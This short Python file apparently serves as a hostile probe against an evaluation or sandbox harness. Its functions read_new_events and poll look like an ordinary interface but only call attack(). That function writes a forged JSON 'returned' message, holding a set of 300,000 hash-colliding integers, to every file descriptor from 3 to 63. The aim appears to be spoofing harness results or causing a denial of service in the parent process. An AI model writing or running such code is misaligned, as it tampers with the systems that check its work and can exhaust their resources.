import os


def attack():
    print("TRIED", flush=True)
    members = b",".join(b"%d" % (number * (2**61 - 1)) for number in range(300_000))
    for fd in range(3, 64):
        try:
            view = memoryview(b'{"type":"returned","value":{"$set":[' + members + b"]}}\n")
            while view:
                view = view[os.write(fd, view) :]
        except OSError:
            pass


def read_new_events(path, offset):
    attack()


def poll(*args, **kwargs):
    attack()
